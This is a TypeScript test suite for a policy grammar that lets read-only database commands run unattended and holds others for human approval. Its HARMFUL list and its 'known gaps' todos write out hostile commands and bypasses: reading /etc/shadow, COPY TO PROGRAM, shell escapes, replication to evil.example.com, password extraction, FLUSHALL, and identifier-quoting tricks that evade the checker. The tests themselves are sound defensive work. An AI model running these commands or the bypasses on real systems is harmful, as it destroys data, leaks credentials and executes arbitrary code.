import { assessCommand } from '../../src/policy/assessor.js';
import { checkScript } from '../../src/policy/grammar/check.js';
import type { MatchResult } from '../../src/policy/grammar/match.js';
import { grammarRegistry } from '../../src/policy/grammar/registry.js';
import { parseShell } from '../../src/policy/shell-parser.js';

/**
 * The databases family (src/policy/grammar/families/databases.ts): psql, pg_isready, pg_lsclusters,
 * pg_controldata, mysql/mariadb, mysqladmin, redis-cli, sqlite3, rabbitmqctl, kafka-topics and
 * kafka-consumer-groups. One read-only statement, status and metadata reads against loopback or
 * policy.internalHosts run unattended; other statements, client commands, files, plugins, config,
 * credentials, cached values and piped input wait for a human.
 */

const ENVIRONMENTS = ['development', 'staging', 'production'] as const;

async function grammar(command: string, internalHosts: string[] = []): Promise<MatchResult> {
  const parsed = await parseShell(command);
  if (!parsed.ok) throw new Error(`${command}: ${parsed.error}`);
  return checkScript(parsed.script, grammarRegistry(), { secretPaths: [], internalHosts }, command);
}

const SAFE: string[] = [
  // PostgreSQL
  "psql -h 127.0.0.1 -U app -d app -c 'SELECT count(*) FROM pg_stat_activity'",
  "psql -X -A -t -c 'SELECT pg_is_in_recovery()'",
  'psql -d orders -c "SELECT state, count(*) FROM pg_stat_activity GROUP BY state"',
  "psql -U postgres -c 'SHOW max_connections'",
  'psql -h localhost -p 5432 -U postgres -d postgres -c "SELECT datname, pg_size_pretty(pg_database_size(datname)) FROM pg_database"',
  'psql -l',
  'psql -h 127.0.0.1 -l -w',
  "psql -XAt -c 'SELECT now() - pg_last_xact_replay_timestamp()'",
  "psql --no-psqlrc --csv -c 'SELECT * FROM pg_stat_replication'",
  "psql -x -c 'SELECT * FROM pg_stat_database WHERE datname = current_database()'",
  "psql postgresql://app@localhost:5432/app -c 'SELECT 1'",
  "psql app -c 'SELECT relname, n_dead_tup FROM pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT 10'",
  "psql -P pager=off -c 'SELECT * FROM pg_locks'",
  "psql -qAtX -F , -c 'SELECT pid, wait_event_type FROM pg_stat_activity'",
  "psql -c 'SELECT slot_name, active FROM pg_replication_slots' postgres",
  `psql -c "SELECT pid, now() - query_start AS duration, query FROM pg_stat_activity WHERE state <> 'idle' ORDER BY duration DESC"`,
  "psql -U postgres -d app -c 'EXPLAIN SELECT * FROM orders WHERE id = 5'",
  'pg_isready',
  'pg_isready -h 127.0.0.1 -p 5432 -t 5',
  'pg_isready -q -d postgres -U postgres',
  'pg_lsclusters',
  'pg_lsclusters -h 15 main',
  'pg_controldata /var/lib/postgresql/15/main',
  // MySQL / MariaDB
  "mysql -h 127.0.0.1 -u app -N -B -e 'SHOW PROCESSLIST'",
  `mysql -e 'SHOW GLOBAL STATUS LIKE "Threads_connected"'`,
  `mysql -u root -e "SHOW VARIABLES LIKE 'max_connections'"`,
  "mysql --batch --skip-column-names -e 'SELECT COUNT(*) FROM information_schema.processlist'",
  "mysql -E -e 'SHOW REPLICA STATUS'",
  "mysql -t -e 'SHOW ENGINE INNODB STATUS'",
  "mysql -D shop -e 'SELECT COUNT(*) FROM orders WHERE created_at > NOW() - INTERVAL 1 HOUR'",
  "mysql shop -e 'SHOW TABLE STATUS'",
  "mysql --protocol=tcp -h localhost -P 3306 -e 'SELECT VERSION()'",
  "mysql -S /run/mysqld/mysqld.sock -e 'SHOW DATABASES'",
  `mariadb -e 'SHOW GLOBAL VARIABLES LIKE "innodb_buffer_pool_size"'`,
  'mysqladmin status',
  'mysqladmin -h 127.0.0.1 ping',
  'mysqladmin processlist',
  'mysqladmin -i 5 -c 3 extended-status',
  'mysqladmin -r -i 10 extended-status',
  'mysqladmin version variables',
  // Redis
  'redis-cli ping',
  'redis-cli info',
  'redis-cli INFO replication',
  'redis-cli -h 127.0.0.1 -p 6379 info memory',
  'redis-cli -n 2 dbsize',
  'redis-cli --bigkeys',
  'redis-cli --memkeys -i 0.1',
  'redis-cli --latency',
  'redis-cli --latency-history -i 5',
  'redis-cli --stat -i 2',
  "redis-cli --scan --pattern 'session:*'",
  'redis-cli SLOWLOG GET 10',
  'redis-cli slowlog len',
  'redis-cli CLIENT LIST',
  'redis-cli CONFIG GET maxmemory',
  'redis-cli config get maxmemory-policy',
  'redis-cli CLUSTER INFO',
  'redis-cli TTL user:42',
  'redis-cli TYPE queue:jobs',
  'redis-cli LLEN queue:jobs',
  'redis-cli MEMORY USAGE big:key',
  'redis-cli MEMORY STATS',
  'redis-cli LATENCY LATEST',
  'redis-cli LATENCY DOCTOR',
  'redis-cli ROLE',
  "redis-cli SCAN 0 MATCH 'user:*' COUNT 100",
  'redis-cli --raw info keyspace',
  'redis-cli OBJECT ENCODING mykey',
  'redis-cli XINFO GROUPS events',
  'redis-cli --tls --cacert /etc/redis/ca.crt -h 127.0.0.1 ping',
  'redis-cli -p 6380 ping',
  'redis-cli -p 26379 info sentinel',
  'redis-cli -s /run/redis/redis-server.sock info clients',
  'redis-cli -r 10 -i 1 info stats',
  'redis-cli MEMORY USAGE big:key SAMPLES 5',
  // SQLite
  "sqlite3 -readonly /var/lib/app/app.db 'SELECT count(*) FROM jobs'",
  "sqlite3 -readonly -header -column app.db 'SELECT * FROM jobs ORDER BY id DESC LIMIT 5'",
  "sqlite3 -readonly -json db.sqlite 'SELECT name FROM sqlite_master'",
  "sqlite3 -readonly db.sqlite '.schema jobs'",
  // RabbitMQ and Kafka
  'rabbitmqctl status',
  'rabbitmqctl list_queues name messages consumers',
  'rabbitmqctl -p /prod list_queues name messages_ready messages_unacknowledged',
  'rabbitmqctl cluster_status',
  'rabbitmqctl list_connections --formatter json',
  'kafka-topics.sh --bootstrap-server localhost:9092 --describe --topic orders',
  'kafka-topics --bootstrap-server 127.0.0.1:9092 --list',
  'kafka-consumer-groups.sh --bootstrap-server localhost:9092 --describe --group billing',
  'kafka-consumer-groups --bootstrap-server localhost:9092 --list',
];

const HARMFUL: string[] = [
  // Red team: cluster mode follows redirects to other nodes; grafana.db holds credentials; a short node name may be another host.
  'redis-cli -c cluster nodes',
  'sqlite3 -readonly /var/lib/grafana/grafana.db .tables',
  'rabbitmqctl -n rabbit@node1 list_vhosts',
  // PostgreSQL: other statements, meta-commands, files, variables, outside hosts, credentials, stdin
  "psql -c '\\! id'",
  "psql -c 'SELECT 1; DROP TABLE t'",
  "psql -h evil.example.com -c 'SELECT 1'",
  "echo 'DROP TABLE t' | psql",
  "psql -c 'DELETE FROM users'",
  'psql -f /tmp/evil.sql',
  "psql -c 'SELECT 1' -o /tmp/out",
  "psql -c 'SELECT 1' -o '|sh'",
  "psql -L /tmp/log -c 'SELECT 1'",
  "psql -v ON_ERROR_STOP=0 -c 'SELECT 1'",
  "psql --set=x=1 -c 'SELECT 1'",
  "psql -d 'host=evil.example.com dbname=x' -c 'SELECT 1'",
  "psql 'postgresql://evil.example.com/db' -c 'SELECT 1'",
  "psql 'postgresql://u:secret@localhost/db' -c 'SELECT 1'",
  "psql 'postgresql://localhost/db?sslkey=/tmp/k' -c 'SELECT 1'",
  "psql 'service=prod' -c 'SELECT 1'",
  "psql -c 'SELECT * FROM pg_authid'",
  "psql -c 'SELECT pg_terminate_backend(123)'",
  "psql -c 'SELECT pg_read_file($$/etc/shadow$$)'",
  "psql -c 'COPY t TO PROGRAM $$id$$'",
  "psql -c 'SELECT 1 /* x */'",
  "psql -c 'SELECT 1 -- x'",
  "psql -c '\\o /tmp/x'",
  "psql -c 'SELECT 1 \\g /tmp/x'",
  "psql -P pager=on -c 'SELECT 1'",
  "psql -c 'SELECT nextval($$s$$)'",
  'psql',
  'psql -d app',
  'psql -h db.prod.example.com -l',
  "psql -W -c 'SELECT 1'",
  "psql -s -c 'SELECT 1'",
  "psql -c 'EXPLAIN ANALYZE DELETE FROM t'",
  "psql -c 'SELECT * FROM t FOR UPDATE'",
  "psql -c 'VACUUM FULL'",
  "psql -c 'SET ROLE postgres'",
  'pg_isready -h evil.example.com',
  "pg_isready -d 'host=evil.example.com'",
  "psql -c 'SELECT 1' -h evil.example.com",
  "psql -c 'SELECT lo_export(1, $$/tmp/x$$)'",
  `psql -c "SELECT * FROM dblink('host=evil.example.com', 'SELECT 1') AS t(x int)"`,
  // MySQL / MariaDB: comments, client commands, config and plugin loading, passwords, the mysql schema, stdin
  "mysql -e 'DROP DATABASE prod'",
  "mysql -e 'SELECT 1; DROP TABLE t'",
  "mysql -e 'SELECT 1 /*!50000 ; DROP TABLE t */'",
  "mysql -e '\\! id'",
  "mysql -e 'system id'",
  `mysql -e 'SELECT * FROM t INTO OUTFILE "/tmp/x"'`,
  `mysql -e "SELECT LOAD_FILE('/etc/shadow')"`,
  "mysql -p -e 'SELECT 1'",
  "mysql -psecret -e 'SELECT 1'",
  "mysql --password=secret -e 'SELECT 1'",
  "mysql --init-command='DROP TABLE t' -e 'SELECT 1'",
  "mysql --init-c='DROP TABLE t' -e 'SELECT 1'",
  "mysql --loose-init-command='DROP TABLE t' -e 'SELECT 1'",
  "mysql --defaults-file=/tmp/my.cnf -e 'SELECT 1'",
  "mysql --defaults-extra-file=/tmp/my.cnf -e 'SELECT 1'",
  "mysql --plugin-dir=/tmp -e 'SELECT 1'",
  "mysql --default-auth=evil -e 'SELECT 1'",
  "mysql --pager='sh -c id' -e 'SELECT 1'",
  "mysql --tee=/tmp/x -e 'SELECT 1'",
  "mysql --local-infile -e 'SELECT 1'",
  "mysql -h evil.example.com -e 'SELECT 1'",
  'mysql --print-defaults',
  "mysql -e 'SHOW CREATE USER root'",
  "mysql -e 'SELECT user, authentication_string FROM mysql.user'",
  "mysql -e 'SELECT 1' --execute='DROP TABLE t'",
  "echo 'DROP TABLE t' | mysql",
  'mysql',
  "mysql -D mysql -e 'SELECT * FROM user'",
  "mysql -e 'SELECT * FROM user' mysql",
  "mysql -e 'SELECT * FROM global_priv' --database=MySQL",
  // mysqladmin: anything but the status reads
  'mysqladmin shutdown',
  'mysqladmin kill 123',
  'mysqladmin flush-hosts',
  'mysqladmin drop shop',
  'mysqladmin create shop',
  'mysqladmin password newpass',
  'mysqladmin shut',
  'mysqladmin status shutdown',
  'mysqladmin -h evil.example.com status',
  // Redis: CONFIG GET secrets, writes, dumps, credentials, blocking and streaming commands, values
  "redis-cli CONFIG GET '*'",
  'redis-cli CONFIG GET requirepass',
  'redis-cli CONFIG GET masterauth',
  "redis-cli CONFIG GET '*pass*'",
  'redis-cli config get REQUIREPASS',
  'redis-cli CONFIG SET maxmemory 1',
  'redis-cli CONFIG REWRITE',
  'redis-cli -n 0 FLUSHALL',
  'redis-cli flushdb',
  'redis-cli -h 127.0.0.1 --rdb /tmp/x',
  'redis-cli --functions-rdb /tmp/x',
  'redis-cli -h evil.example.com ping',
  'redis-cli -a secret ping',
  'redis-cli --pass secret ping',
  'redis-cli -u redis://:secret@127.0.0.1:6379 ping',
  'redis-cli --user admin --askpass ping',
  'redis-cli -x set k',
  "echo 'FLUSHALL' | redis-cli",
  'redis-cli --pipe',
  'redis-cli --eval /tmp/x.lua',
  "redis-cli KEYS '*'",
  'redis-cli MONITOR',
  'redis-cli DEBUG SLEEP 100',
  'redis-cli SHUTDOWN',
  'redis-cli CLIENT KILL ID 5',
  'redis-cli CLIENT PAUSE 100000',
  'redis-cli REPLICAOF evil.example.com 6379',
  'redis-cli SLAVEOF evil.example.com 6379',
  'redis-cli BGSAVE',
  'redis-cli SAVE',
  'redis-cli MODULE LOAD /tmp/x.so',
  'redis-cli ACL GETUSER default',
  'redis-cli ACL LIST',
  "redis-cli EVAL 'return 1' 0",
  'redis-cli SCRIPT FLUSH',
  'redis-cli FUNCTION LIST',
  'redis-cli GET session:abc',
  'redis-cli HGETALL user:1',
  'redis-cli DEL k',
  'redis-cli SET k v',
  'redis-cli -r 5 DEL k',
  'redis-cli SLOWLOG RESET',
  'redis-cli LATENCY RESET',
  'redis-cli --cluster fix 127.0.0.1:6379',
  'redis-cli --replica',
  'redis-cli --lru-test 100',
  'redis-cli -h 127.0.0.1 -e -p 6379 flushall',
  'redis-cli info -h evil.example.com',
  'redis-cli MEMORY PURGE',
  'redis-cli CLUSTER FAILOVER',
  'redis-cli CLUSTER RESET',
  'redis-cli FAILOVER',
  'redis-cli OBJECT HELP',
  'redis-cli -r -1 info',
  // redis-cli writes its arguments as lines: another service's port or socket gets them as commands
  'redis-cli -p 11211 ping flush_all',
  'redis-cli -h 127.0.0.1 -p 11211 TYPE flush_all',
  'redis-cli -s /run/haproxy/admin.sock ping',
  'redis-cli -s /run/redis/../haproxy/admin.sock ping',
  // calls that walk the whole keyspace or value, blocking the server like KEYS
  'redis-cli SCAN 0 COUNT 100000000',
  'redis-cli --scan --count 1000000',
  'redis-cli MEMORY USAGE big:key SAMPLES 0',
  'redis-cli -r 100000000 info',
  'redis-cli -h 127.0.0.1 -p 6379 -n 0 --no-auth-warning -a secret info',
  'redis-cli CONFIG GET dir dbfilename requirepass',
  'redis-cli CONFIG GET tls-key-file-pass',
  // SQLite: without -readonly, dot-commands that run or write, -cmd/-init, extensions, archives
  "sqlite3 app.db 'SELECT 1'",
  "sqlite3 -readonly app.db 'DELETE FROM jobs'",
  "sqlite3 -readonly app.db '.shell id'",
  "sqlite3 -readonly app.db '.system id'",
  "sqlite3 -readonly -cmd '.shell id' app.db 'SELECT 1'",
  "sqlite3 -readonly --cmd '.shell id' app.db 'SELECT 1'",
  "sqlite3 -readonly -init /tmp/x app.db 'SELECT 1'",
  `sqlite3 -readonly app.db 'ATTACH DATABASE "/tmp/x" AS x'`,
  `sqlite3 -readonly app.db "SELECT writefile('/tmp/x', 'y')"`,
  `sqlite3 -readonly app.db "SELECT load_extension('/tmp/x.so')"`,
  "sqlite3 -readonly app.db '.output /tmp/x'",
  'sqlite3 -readonly -A -cf x.zip /etc',
  'sqlite3 -readonly app.db .dump',
  'sqlite3 -readonly -interactive app.db',
  "echo 'DELETE FROM t' | sqlite3 -readonly app.db",
  "sqlite3 -readonly app.db 'PRAGMA writable_schema=1'",
  "sqlite3 -readonly /home/app/.secrets.db 'SELECT 1'",
  "sqlite3 -readonly app.db 'SELECT 1' '.shell id'",
  "sqlite3 -readonly -nonce x app.db '.shell id'",
  // MongoDB shells (not declared), RabbitMQ and Kafka admin
  "mongosh --eval 'db.dropDatabase()'",
  "mongo --eval 'db.users.find()'",
  'rabbitmqctl delete_queue orders',
  'rabbitmqctl stop_app',
  'rabbitmqctl environment',
  'rabbitmqctl report',
  'rabbitmqctl --erlang-cookie abc status',
  `rabbitmqctl eval 'os:cmd("id").'`,
  'rabbitmqctl -n rabbit@evil.example.com status',
  'rabbitmqctl add_user x y',
  'kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic orders',
  'kafka-topics.sh --bootstrap-server localhost:9092 --create --topic x',
  'kafka-topics.sh --bootstrap-server localhost:9092 --alter --topic x --partitions 5',
  'kafka-topics.sh --bootstrap-server evil.example.com:9092 --list',
  'kafka-topics.sh --bootstrap-server localhost:9092 --list --command-config /tmp/x.properties',
  'kafka-topics.sh --bootstrap-server localhost:9092 --del --topic orders',
  'kafka-consumer-groups.sh --bootstrap-server localhost:9092 --reset-offsets --group g --to-earliest --execute --topic t',
  'kafka-consumer-groups.sh --bootstrap-server localhost:9092 --delete --group g',
];

describe('databases grammar: everyday reads', () => {
  test.each(SAFE)('%s matches the grammar', async (command) => {
    const result = await grammar(command);
    expect(`${result.kind}: ${result.reason}`).toMatch(/^read: /);
  });

  test.each(SAFE)('%s is auto in production', async (command) => {
    const assessment = await assessCommand(command, 'production');
    expect(`${assessment.decision}: ${assessment.reason}`).toMatch(/^auto: /);
  });

  test('a host listed in policy.internalHosts is read-only too', async () => {
    for (const command of [
      "psql -h db1.internal.example.com -c 'SELECT 1'",
      'redis-cli -h cache.internal.example.com info',
      "mysql -h 10.1.2.3 -e 'SHOW PROCESSLIST'",
      'kafka-topics --bootstrap-server kafka.internal.example.com:9092 --list',
    ]) {
      expect((await grammar(command, ['*.internal.example.com', '10.0.0.0/8'])).kind).toBe('read');
      expect((await grammar(command)).kind).toBe('sensitive');
    }
  });
});

describe('databases grammar: harmful commands wait for a human', () => {
  test.each(HARMFUL)('%s is never auto or notify', async (command) => {
    for (const environment of ENVIRONMENTS) {
      const { decision, reason } = await assessCommand(command, environment);
      expect(`${environment}: ${decision}: ${reason}`).not.toMatch(/^\w+: (auto|notify): /);
    }
  });

  test.each(HARMFUL)('%s is not proven read-only by the grammar', async (command) => {
    expect((await grammar(command)).kind).not.toBe('read');
  });
});

describe('databases grammar: reasons name the part', () => {
  test.each([
    ['psql -f /tmp/evil.sql', "'-f'"],
    ["psql -c 'SELECT 1' -o /tmp/out", "'-o'"],
    ["psql -d 'host=evil.example.com dbname=x' -c 'SELECT 1'", "'host=evil.example.com dbname=x'"],
    ["psql -h evil.example.com -c 'SELECT 1'", 'evil.example.com is outside loopback'],
    ['psql -d app', 'read-only only with -c'],
    ["mysql --init-c='DROP TABLE t' -e 'SELECT 1'", "'--init-c'"],
    ["mysql -psecret -e 'SELECT 1'", "'-p'"],
    ['mysqladmin shut', "'shut'"],
    ["redis-cli CONFIG GET '*'", "'*'"],
    ['redis-cli CONFIG GET requirepass', "'requirepass'"],
    ['redis-cli -n 0 FLUSHALL', "'FLUSHALL'"],
    ['redis-cli -h 127.0.0.1 --rdb /tmp/x', "'--rdb'"],
    ['redis-cli GET session:abc', 'session tokens'],
    ["sqlite3 app.db 'SELECT 1'", 'read-only only with -readonly'],
    ["sqlite3 -readonly app.db '.shell id'", "'.shell id'"],
    ['rabbitmqctl environment', "'environment'"],
    ['kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic orders', "'--delete'"],
  ])('%s names %s', async (command, part) => {
    expect((await grammar(command)).reason).toContain(part);
    const assessment = await assessCommand(command, 'production');
    expect(assessment.decision).not.toBe('auto');
  });
});

describe('databases grammar: known gaps in the sql type (src/policy/grammar/languages/sql.ts)', () => {
  // A quoted identifier followed by `(` is a function call the PURE_FUNCTIONS check never sees.
  test.todo(`psql -c 'SELECT "pg_terminate_backend"(pid) FROM pg_stat_activity' is not auto`);
  test.todo(`psql -c 'SELECT pg_catalog."pg_reload_conf"()' is not auto`);
  test.todo(`sqlite3 -readonly app.db "SELECT \\"writefile\\"('/tmp/x', 'y')" is not auto (writes /tmp/x)`);
  test.todo(`sqlite3 -readonly app.db "SELECT \\"load_extension\\"('/tmp/x.so')" is not auto`);
  // U&"…" UESCAPE spells a credential table without naming it.
  test.todo(`psql -c "SELECT * FROM U&\\"pg_!0061uthid\\" UESCAPE '!'" is not auto`);
  // `SELECT *` from tables whose credential columns are only caught when named.
  test.todo(`mysql -e 'SELECT * FROM mysql.global_priv' is not auto (MariaDB password hashes)`);
  test.todo(`mysql -e 'SELECT * FROM mysql . user' is not auto`);
  test.todo(`psql -c 'SELECT * FROM pg_subscription' is not auto (subconninfo)`);
  test.todo(`psql -c 'SELECT * FROM information_schema.user_mapping_options' is not auto`);
});
